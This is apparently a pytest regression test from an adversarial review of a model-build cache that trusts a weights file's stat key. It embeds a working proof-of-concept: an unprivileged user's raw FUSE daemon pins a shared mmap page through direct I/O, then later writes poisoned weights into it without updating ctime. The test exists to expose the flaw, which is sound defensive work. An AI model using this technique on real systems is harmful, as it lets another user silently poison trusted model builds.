"""Twenty-sixth adversarial re-run (issue 35), D26-1: D25-1's fix lets a file's stat key stand for its bytes once its
last change lies twice the writeback window (``RACY_NS``, 70 s here) before the hash, assuming that every store
into a page the kernel wrote back faults and stamps ctime. A page pinned for I/O (``pin_user_pages`` with
FOLL_WRITE: a direct-I/O read into a shared map of ``w.bin``) takes its one stamp when pinned; the data lands when
the I/O completes, copied by the kernel with no fault and no stamp. The other user reads a file of their own FUSE
file system (a user and mount namespace: no privilege) with ``FOPEN_DIRECT_IO`` into their map of ``w.bin`` and
answers the read whenever they like: minutes later, after root's build remembered the real weights' hash by the
stat key (/srv/adv26/pinned.sh, /srv/adv26/fusepin.py)."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest
from test_adversary_reuse_key_revoked_write import _build, _model_with_external_weight

from trt_widget import _external_data

# the other user's side (/srv/adv26/fusepin.py)
FUSEPIN = r"""
import ctypes, errno, mmap, os, struct, sys, threading, time

wbin, mnt, fifo = sys.argv[1:4]
wfd = os.open(wbin, os.O_RDWR)
m = mmap.mmap(wfd, 1024, mmap.MAP_SHARED)
POISON = (b"POISONED-WEIGHTS-" * 100)[:1024]
dev = os.open("/dev/fuse", os.O_RDWR)
libc = ctypes.CDLL(None, use_errno=True)
opts = f"fd={dev},rootmode=40000,user_id=0,group_id=0".encode()
if libc.mount(b"adv26", mnt.encode(), b"fuse", 6, opts) != 0:  # MS_NOSUID|MS_NODEV
    sys.exit(f"mount: {os.strerror(ctypes.get_errno())}")

def attr(ino, mode, size):
    now = int(time.time())
    return struct.pack("<QQQQQQIIIIIIIIII", ino, size, 1, now, now, now, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

def reply(unique, data=b"", err=0):
    os.write(dev, struct.pack("<IiQ", 16 + len(data), -err, unique) + data)

go = threading.Event()
def wait_fifo():
    open(fifo).readline(); go.set()
threading.Thread(target=wait_fifo, daemon=True).start()
pending = []
def answer_later():
    go.wait()
    for unique, size in pending:
        reply(unique, POISON[:size])
    print("answered: the poison copied into the pinned page", flush=True)

def serve():
    while True:
        try:
            buf = os.read(dev, 1 << 20)
        except OSError as e:
            if e.errno == errno.ENODEV:
                return
            raise
        ln, op, unique, node = struct.unpack_from("<IIQQ", buf)
        body = buf[40:ln]
        if op == 26:  # INIT
            reply(unique, struct.pack("<IIIIHHIIHHII", 7, 31, 0, 0, 16, 12, 1 << 17, 1, 32, 0, 0, 0) + b"\0" * 24)
        elif op == 1:  # LOOKUP
            if body.rstrip(b"\0") == b"p":
                reply(unique, struct.pack("<QQQQII", 2, 0, 100, 100, 0, 0) + attr(2, 0o100444, 1024))
            else:
                reply(unique, err=errno.ENOENT)
        elif op == 3:  # GETATTR
            a = attr(1, 0o40755, 0) if node == 1 else attr(2, 0o100444, 1024)
            reply(unique, struct.pack("<QII", 100, 0, 0) + a)
        elif op == 14:  # OPEN
            reply(unique, struct.pack("<QIi", 1, 1, 0))  # FOPEN_DIRECT_IO
        elif op == 15:  # READ
            fh, off, size = struct.unpack_from("<QQI", body)
            if off >= 1024:
                reply(unique, b"")
            else:
                pending.append((unique, min(size, 1024 - off)))
                if len(pending) == 1:
                    threading.Thread(target=answer_later, daemon=True).start()
        elif op in (25, 18):  # FLUSH, RELEASE
            reply(unique)
        elif op == 36:  # INTERRUPT: no reply
            pass
        else:
            reply(unique, err=errno.ENOSYS)
threading.Thread(target=serve, daemon=True).start()
time.sleep(0.3)
src = os.open(os.path.join(mnt, "p"), os.O_RDONLY)
print("pinning: reading the FUSE file into the map", flush=True)
n = os.readv(src, [memoryview(m)])
print(f"read {n} bytes into the map (no fault now)", flush=True)
os.close(src)  # its FLUSH answered while the daemon thread lives
m.close()
os._exit(0)
"""

NOBODY = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "unshare", "-Urm"]


def _interpreter() -> str:
    """A Python that ``nobody`` may run inside its own user namespace (else the test is skipped)."""
    for candidate in ("/srv/py311/bin/python3", "/usr/bin/python3", "/usr/local/bin/python3"):
        if (
            os.path.exists(candidate)
            and subprocess.run([*NOBODY, candidate, "-c", "1"], capture_output=True).returncode == 0
        ):
            return candidate
    pytest.skip("no interpreter nobody may run in a user namespace")


@pytest.mark.slow
@pytest.mark.xfail(strict=True, reason="adversary run 26: D26-1 a pinned page is written with no stamp, any time later")
def test_a_page_pinned_for_direct_io_never_gets_its_weights_reused(shared: Path, tmp_path: Path) -> None:
    if not os.access("/dev/fuse", os.R_OK | os.W_OK):
        pytest.skip("no /dev/fuse")
    python = _interpreter()
    folder, trusted, cache, mount = shared / "model", tmp_path / "trusted", tmp_path / "cache", shared / "mnt"
    folder.mkdir(mode=0o755)
    mount.mkdir()
    trusted.mkdir()
    model = _model_with_external_weight(folder)
    shutil.copy(model, trusted / "m.onnx")
    shutil.copy(folder / "w.bin", trusted / "w.bin")
    for path in (folder, model, folder / "w.bin", mount):
        shutil.chown(path, "nobody", "nogroup")  # the shared model folder's owner, for now
    go = shared / "go"
    os.mkfifo(go)
    go.chmod(0o666)
    out, script = shared / "pin.out", shared / "fusepin.py"
    script.write_text(FUSEPIN)
    script.chmod(0o644)
    with open(out, "w") as log:
        pin = subprocess.Popen([*NOBODY, python, str(script), str(folder / "w.bin"), str(mount), str(go)],
                               stdout=log, stderr=subprocess.STDOUT)  # fmt: skip
    try:
        for _ in range(100):
            if "pinning" in out.read_text():
                break
            time.sleep(0.1)
        else:
            pytest.skip(f"no FUSE mount in a user namespace here: {out.read_text()[:200]!r}")
        time.sleep(0.5)
        for path in (folder, model, folder / "w.bin"):  # root takes the folder over
            os.chown(path, 0, 0)
            path.chmod(0o755 if path.is_dir() else 0o644)
        time.sleep(_external_data.RACY_NS / 1e9 + 5)  # settled, by the fix's rule, and written back
        key = os.stat(folder / "w.bin")
        _build(model, tmp_path / "first.engine", cache)  # remembers sha(real) by w.bin's stat key
        go.write_text("go\n")
        pin.wait(60)
    finally:
        if pin.poll() is None:
            pin.kill()
            pin.wait(30)
    after = os.stat(folder / "w.bin")
    assert (after.st_ino, after.st_mtime_ns, after.st_ctime_ns) == (key.st_ino, key.st_mtime_ns, key.st_ctime_ns)
    assert (folder / "w.bin").read_bytes().startswith(b"POISONED-WEIGHTS")  # and the stat key as hashed
    for entry in cache.glob("*.engine*"):
        entry.unlink()
    _build(model, tmp_path / "second.engine", cache)
    third = _build(trusted / "m.onnx", tmp_path / "third.engine", cache)
    assert b"POISONED-WEIGHTS" not in third, "the trusted model's build reused the pinned page's weights' engine"
